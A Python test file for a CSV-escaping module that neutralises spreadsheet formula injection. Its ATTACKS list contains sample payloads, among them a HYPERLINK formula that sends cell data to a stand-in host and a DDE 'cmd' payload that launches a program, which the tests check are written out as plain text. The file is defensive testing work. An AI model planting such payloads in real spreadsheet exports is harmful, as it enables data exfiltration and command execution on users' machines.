"""CSV formula injection (OWASP): every dangerous first character is neutralised, nothing else."""

from __future__ import annotations

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from rpl import csv_safe

ATTACKS = [
    "=1+1",
    '=HYPERLINK("http://evil.example?"&A1,"click")',
    "+41 79 000 00 00",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
    "=cmd|' /C calc'!A0",
]


@pytest.mark.parametrize("cell", ATTACKS)
def test_a_cell_that_a_spreadsheet_would_evaluate_is_written_as_text(cell: str) -> None:
    handle = io.StringIO()
    csv_safe.writer(handle).writerow(["Ana", cell])
    [row] = list(csv.reader(io.StringIO(handle.getvalue())))
    assert row == ["Ana", "'" + cell]


def test_ordinary_values_and_our_own_numbers_are_left_alone() -> None:
    assert csv_safe.safe_row(["Ana Lima", "2012-05", 640, -2, 0.5, None, True, "a=b"]) == [
        "Ana Lima",
        "2012-05",
        "640",
        "-2",
        "0.5",
        "",
        "true",
        "a=b",
    ]


def test_writerows_and_csv_options_pass_through() -> None:
    handle = io.StringIO()
    csv_safe.writer(handle, delimiter=";", lineterminator="\n").writerows([["a", "=b"], ["c"]])
    assert handle.getvalue() == "a;'=b\nc\n"


@given(st.text())
def test_no_written_text_cell_starts_like_a_formula(text: str) -> None:
    cell = csv_safe.safe_cell(text)
    assert not cell.startswith(csv_safe.FORMULA_STARTS)
    assert cell in (text, "'" + text)
